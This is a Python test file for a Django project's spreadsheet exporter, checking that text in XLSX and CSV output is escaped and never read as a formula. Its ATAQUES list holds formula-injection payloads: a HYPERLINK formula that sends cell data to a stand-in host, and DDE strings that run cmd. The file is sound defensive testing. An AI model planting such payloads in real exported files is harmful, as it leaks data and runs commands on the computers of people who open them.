"""Files that leave: text is never a formula, figures are figures."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from cesop.nucleo.planillas import escribir
from cesop.nucleo.planillas.tipos import Encabezado, parece_formula

ATAQUES = [
    '=HYPERLINK("http://malo.example/?"&A1;"Ver")',
    "+54 11 5555-5555",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
ENCABEZADOS = [Encabezado(titulo="Texto"), Encabezado(titulo="Importe", tipo="importe")]


def _leer_xlsx(contenido: bytes) -> list[list[object]]:
    hoja = openpyxl.load_workbook(io.BytesIO(contenido)).worksheets[0]
    return [[celda.value for celda in fila] for fila in hoja.iter_rows()]


@pytest.mark.parametrize("ataque", ATAQUES)
def test_xlsx_guarda_el_texto_como_texto(ataque: str) -> None:
    contenido = escribir.xlsx(ENCABEZADOS, filas=[[ataque, Decimal("-1234.56")]], titulo="x")
    celda, importe = openpyxl.load_workbook(io.BytesIO(contenido)).worksheets[0][2]
    assert celda.data_type == "s"
    assert celda.quotePrefix, "al editarla, la planilla la tomaría por fórmula"
    assert (importe.data_type, importe.value) == ("n", -1234.56)
    with zipfile.ZipFile(io.BytesIO(contenido)) as zip_:
        assert b"<f>" not in zip_.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("ataque", ATAQUES)
def test_csv_escapa_el_texto_y_no_los_importes(ataque: str) -> None:
    contenido = escribir.csv_(ENCABEZADOS, filas=[[ataque, Decimal("-1234.56")]])
    assert contenido.startswith(b"\xef\xbb\xbf")
    _, fila = csv.reader(io.StringIO(contenido.decode("utf-8-sig"), newline=""), delimiter=";")
    assert fila == [f"'{ataque}", "-1234,56"]


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40))
def test_ningun_texto_sale_como_formula(texto: str) -> None:
    contenido = escribir.csv_([Encabezado(titulo="T")], filas=[[texto]]).decode("utf-8-sig")
    for fila in list(csv.reader(io.StringIO(contenido, newline=""), delimiter=";"))[1:]:
        assert not any(parece_formula(celda) for celda in fila)


def test_cada_valor_conserva_su_tipo() -> None:
    momento = timezone.make_aware(dt.datetime(2026, 11, 24, 8, 2))  # noqa: DTZ001 - made aware here
    tipos = ["texto", "entero", "decimal", "fecha", "fecha_hora", "logico", "importe"]
    encabezados = [Encabezado(titulo=tipo, tipo=tipo) for tipo in tipos]  # type: ignore[arg-type]
    fila = ["0042", 55623, Decimal("1.250"), dt.date(2026, 11, 24), momento, True, None]
    assert _leer_xlsx(escribir.xlsx(encabezados, filas=[fila], titulo="Tipos"))[1] == [
        "0042",
        55623,
        1.25,
        dt.datetime(2026, 11, 24),  # noqa: DTZ001 - spreadsheets have no zones
        dt.datetime(2026, 11, 24, 8, 2),  # noqa: DTZ001
        "Sí",
        None,
    ]
    texto = escribir.csv_(encabezados, filas=[fila]).decode("utf-8-sig").splitlines()[1]
    assert texto == "0042;55623;1,250;24/11/2026;24/11/2026 08:02:00;Sí;"


def test_una_cifra_que_no_entra_en_una_planilla_va_exacta() -> None:
    grande = Decimal("12345678901234567.89")
    assert _leer_xlsx(escribir.xlsx(ENCABEZADOS, filas=[["x", grande]], titulo="t"))[1][1] == "12345678901234567,89"


def test_un_float_no_pasa() -> None:
    with pytest.raises(ValueError, match="float"):
        escribir.csv_(ENCABEZADOS, filas=[["x", 0.1]])  # type: ignore[list-item]
    with pytest.raises(ValueError, match="float"):
        escribir.xlsx(ENCABEZADOS, filas=[["x", 0.1]], titulo="t")  # type: ignore[list-item]


def test_el_nombre_de_la_hoja_siempre_sirve() -> None:
    for titulo in ["", "Cuentas [R1]: 2026/11 *de prueba* con un título larguísimo", "'x'"]:
        assert _leer_xlsx(escribir.xlsx(ENCABEZADOS, filas=[], titulo=titulo))
